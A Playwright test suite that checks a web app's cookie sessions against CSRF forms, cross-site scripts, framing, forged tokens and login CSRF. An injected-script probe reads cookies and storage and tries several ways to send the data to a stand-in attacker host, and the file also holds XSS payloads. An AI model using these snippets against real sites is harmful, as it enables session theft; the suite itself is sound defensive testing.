"""The cookie mode against a hostile page, a hostile script in our own page, and forged cookies."""

import json
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from tests.browser.attacker import FORM, Attacker, serve_attacker
from tests.browser.page_object import COOKIE, AppPage
from tests.browser.served_app import App
from tests.issuer import serve_issuer

SITES = ("other_site", "same_site")
TAKE = """async (base) => {
  const got = [];
  for (const [method, path] of [["GET", "/session/me"], ["GET", "/orders"], ["POST", "/orders"],
                                ["POST", "/session/refresh"], ["POST", "/session/logout"]]) {
    for (const mode of ["cors", "no-cors"]) {
      for (const headers of [{}, {"x-csrf-token": "guess"}]) {
        try {
          const answer = await fetch(base + path, {method, mode, headers, credentials: "include"});
          got.push([method, path, answer.status, await answer.text()]);
        } catch { /* the browser keeps it from the page */ }
      }
    }
  }
  return got;
}"""


@pytest.fixture(scope="module")
def attacker() -> Iterator[Attacker]:
    with serve_attacker() as site:
        yield site


@pytest.fixture
def victim(context: BrowserContext, app: App) -> AppPage:
    return AppPage.returning(context, app.url, app.users["admin"])


@pytest.fixture(scope="module")
def signed_in(browser: Browser, app: App) -> Iterator[AppPage]:
    """Somebody whom the attacks of several tests leave signed in."""
    context = browser.new_context()
    yield AppPage.returning(context, app.url, app.users["admin"])
    context.close()


@pytest.fixture
def unharmed(signed_in: AppPage, app: App) -> Iterator[AppPage]:
    """The same person for each attack that must change nothing."""
    signed_in.open()
    signed_in.expect_signed_in(app.users["admin"])
    yield signed_in
    for tab in signed_in.tab.context.pages:
        if tab is not signed_in.tab:
            tab.close()


def plant(context: BrowserContext, app: App, name: str, value: str) -> None:
    """Put a cookie into the browser, as somebody who holds the machine could."""
    context.add_cookies(
        [
            {
                "name": name,
                "value": value,
                "domain": str(urlsplit(app.url).hostname),
                "path": "/",
                "secure": True,
                "httpOnly": True,
                "sameSite": "Strict",
            }
        ]
    )


def still_signed_in(page: AppPage, app: App) -> None:
    page.tab.reload()
    page.expect_signed_in(app.users["admin"])
    expect(page.call("GET /orders").locator(".status")).to_have_text("200 OK")


def hostile_tab(person: AppPage, attacker: Attacker, site: str) -> Page:
    tab = person.tab.context.new_page()
    tab.goto(f"{getattr(attacker, site)}/")
    return tab


@pytest.mark.parametrize("site", SITES)
@pytest.mark.parametrize(
    ("path", "statuses"),
    [("/orders", (401,)), ("/session/logout", (403,)), ("/session/refresh", (403,))],
)
def test_a_form_of_another_page_changes_nothing(
    unharmed: AppPage, app: App, attacker: Attacker, site: str, path: str, statuses: tuple[int, ...]
) -> None:
    attacker.pages["/"] = FORM.format(target=f"{app.url}{path}")
    tab = hostile_tab(unharmed, attacker, site)
    with tab.expect_response(f"**{path}") as answer:
        tab.get_by_role("button").click()
    assert answer.value.status in statuses
    sent = answer.value.request.all_headers()
    # Another site's form carries no Strict cookie; another port's does, and its Origin betrays it.
    assert ("__Host-Http-access" in sent.get("cookie", "")) == (site == "same_site")
    assert sent["origin"] == getattr(attacker, site)
    still_signed_in(unharmed, app)


@pytest.mark.parametrize("site", SITES)
def test_a_script_of_another_page_reads_nothing_and_changes_nothing(
    unharmed: AppPage, app: App, attacker: Attacker, site: str
) -> None:
    attacker.pages["/"] = "<!doctype html><title>You have won</title>"
    tab = hostile_tab(unharmed, attacker, site)
    got: list[list[Any]] = tab.evaluate(TAKE, app.url)
    # An opaque answer tells its reader nothing: no status and no body.
    assert [item for item in got if item[2] != 0 or item[3]] == []
    still_signed_in(unharmed, app)


@pytest.mark.parametrize("site", SITES)
def test_no_page_can_be_put_into_a_frame_of_another(
    unharmed: AppPage, app: App, attacker: Attacker, site: str
) -> None:
    attacker.pages["/"] = f'<!doctype html><iframe src="{app.url}/app"></iframe>'
    tab = hostile_tab(unharmed, attacker, site)
    tab.wait_for_load_state("load")
    framed = tab.frames[1]
    assert framed.locator("#session-status").count() == 0


def test_a_script_in_our_own_page_gets_no_token_and_asks_no_other_origin(
    victim: AppPage, app: App, attacker: Attacker
) -> None:
    """The probe: everything that an injected script could read, and every request that it could send.

    No policy stops a navigation: what the page may read can be sent away by one.
    """
    attacker.received.clear()
    found = victim.tab.evaluate(
        """async ([base, away]) => {
          const found = [document.cookie, document.documentElement.outerHTML,
                         JSON.stringify([{...sessionStorage}, {...localStorage}])];
          for (const path of ["/session/me", "/app/config.json", "/session/callback"]) {
            const answer = await fetch(path);
            found.push(await answer.text(), JSON.stringify([...answer.headers]));
          }
          const stolen = encodeURIComponent(found.join());
          const ways = [
            () => fetch(away + "/fetch", {method: "POST", body: stolen, mode: "no-cors"}),
            () => navigator.sendBeacon(away + "/beacon", stolen),
            () => { const i = new Image(); i.src = away + "/image"; document.body.append(i); },
            () => { const s = document.createElement("script"); s.src = away + "/script";
                    document.body.append(s); },
            () => { const f = document.createElement("form"); f.method = "post";
                    f.action = away + "/form"; document.body.append(f); f.submit(); },
            () => { const f = document.createElement("iframe"); f.src = away + "/frame";
                    document.body.append(f); },
            () => { document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=alert(1)>"); },
            () => new EventSource(away + "/events"),
            () => new WebSocket(away.replace("http", "ws") + "/socket"),
          ];
          for (const way of ways) { try { await way(); } catch { /* refused */ } }
          await new Promise((done) => setTimeout(done, 500));
          return found;
        }""",
        [app.url, attacker.same_site],
    )
    cookies = victim.own_cookies()
    access, session = cookies["__Host-Http-access"], cookies["__Host-Http-session"]
    text = json.dumps(found)
    for secret in (access, access.rpartition(".")[2], session):
        assert secret not in text
    assert attacker.received == []
    still_signed_in(victim, app)


def test_a_forged_access_cookie_gets_nobody_in_and_ends_the_session_in_words(
    victim: AppPage, app: App
) -> None:
    context = victim.tab.context
    with serve_issuer() as forger:
        claims = {"iss": app.pool.issuer, "client_id": "x", "token_use": "access"}
        forged = forger.mint(**claims, **{"cognito:groups": ["admins"]})
    plant(context, app, "__Host-Http-access", forged)
    with victim.tab.expect_response("**/orders") as answer:
        victim.call("GET /orders")
    assert answer.value.status == 401
    victim.tab.reload()
    victim.expect_signed_out()
    assert victim.own_cookies() == {}


@pytest.mark.parametrize("damage", ["truncated", "changed", "no cookie of ours"])
def test_a_damaged_session_cookie_is_a_signed_out_person_and_no_fault(
    victim: AppPage, app: App, damage: str
) -> None:
    context = victim.tab.context
    value = victim.own_cookies()["__Host-Http-session"]
    half = len(value) // 2
    flipped = "A" if value[half] != "A" else "B"
    damaged = {
        "truncated": value[:half],
        "changed": f"{value[:half]}{flipped}{value[half + 1 :]}",
        "no cookie of ours": "signed_in",
    }
    plant(context, app, "__Host-Http-session", damaged[damage])
    with victim.tab.expect_response("**/session/me") as answer:
        victim.tab.reload()
    assert answer.value.status == 200
    victim.expect_signed_out()


def test_a_callback_that_another_browser_began_signs_nobody_in(
    browser: Browser, context: BrowserContext, app: App
) -> None:
    """Login CSRF: the attacker's own code and state, opened by the victim."""
    theirs = browser.new_context()
    page = AppPage.opened(theirs, app.url, COOKIE)
    page.tab.route("**/session/callback?*", lambda route: route.abort())
    page.button("Sign in").click()
    user = app.users["user"]
    page.tab.get_by_label("E-mail").fill(user.username)
    page.tab.get_by_label("Password").fill(user.password)
    with page.tab.expect_request("**/session/callback?*") as stolen:
        page.tab.get_by_role("button", name="Sign in").click()
    ours = AppPage.opened(context, app.url, COOKIE)
    ours.button("Sign in").click()  # even while a sign-in of one's own is under way
    ours.tab.wait_for_url("**/login?*")
    answer = ours.tab.goto(stolen.value.url)
    assert answer
    assert answer.status == 400
    expect(ours.tab.get_by_role("heading")).to_be_visible()
    ours.open()
    ours.expect_signed_out()
    theirs.close()


def test_an_error_of_the_issuer_is_told_in_words_and_its_markup_stays_text(
    context: BrowserContext, app: App
) -> None:
    page = AppPage.opened(context, app.url, COOKIE)
    page.button("Sign in").click()
    page.tab.wait_for_url("**/login?*")
    state = page.tab.evaluate("new URLSearchParams(location.search).get('state')")
    probe = "<script>document.title='taken'</script>"
    answer = page.tab.goto(
        f"{app.url}/session/callback?error=access_denied&error_description={probe}&state={state}"
    )
    assert answer
    assert answer.status == 400
    expect(page.tab.locator("body")).to_contain_text("access_denied")
    assert page.tab.title() != "taken"
    page.tab.get_by_role("link").first.click()
    expect(page.tab).not_to_have_title("taken")


def test_two_people_in_two_browsers_share_a_route_and_each_gets_their_own_answer(
    browser: Browser, victim: AppPage, app: App
) -> None:
    other = browser.new_context()
    user = AppPage.returning(other, app.url, app.users["user"])
    for _ in range(3):
        allowed = victim.call("DELETE /orders/{id}", id="order-1")
        expect(allowed.locator(".status")).to_have_text("404 Not Found")
        refused = user.call("DELETE /orders/{id}", id="order-1")
        expect(refused.locator(".status")).to_have_text("403 Forbidden")
        expect(refused.locator(".reason")).to_have_text("The token lacks the group admins.")
    other.close()
